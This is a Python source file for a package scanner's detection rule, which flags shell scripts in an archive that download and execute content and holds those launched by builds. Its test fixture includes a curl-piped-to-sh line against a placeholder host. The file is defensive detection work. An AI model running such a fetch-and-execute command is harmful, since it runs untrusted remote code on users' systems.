"""A shell script of the archive fetches and runs something."""

from __future__ import annotations

from typing import TYPE_CHECKING

from veln_hook.signals.source.rule import HOLD, INFO, REVIEW, Hit, Rule
from veln_hook.source import vocabulary as v

if TYPE_CHECKING:
    from collections.abc import Iterator

    from veln_hook.signals.source.view import View


def _find(view: View) -> Iterator[Hit]:
    commands = list(view.of(v.PROC, by_itself=True))
    for script in view.of(v.SHELL):
        if "build" in script.flags:
            yield Hit("its build fetches something and runs it", (script,), HOLD)
            continue
        base = script.path.rpartition("/")[2]
        for command in commands if "piped" in script.flags else ():
            if base in command.evidence:
                yield Hit("it runs a script that fetches something and runs it", (script, command), HOLD)
        yield Hit(
            "a shell script fetches something" + (" and runs it" if "piped" in script.flags else ""),
            (script,),
            None if "piped" in script.flags else INFO,
        )


RULE = Rule(
    name="shell-download",
    description=(
        "A script for a shell or PowerShell fetches something and runs it; held where code that runs by "
        "itself starts it, or where it is part of a build in another language."
    ),
    grade=INFO,
    when_new=REVIEW,
    find=_find,
    fires={"acme/get.sh": "#!/bin/sh\ncurl -s https://example.test/x | sh\n"},
    quiet={"acme/run.sh": "#!/bin/sh\nexec python -m acme\n"},
    rates="3 of 60 popular wheels bring one",
)
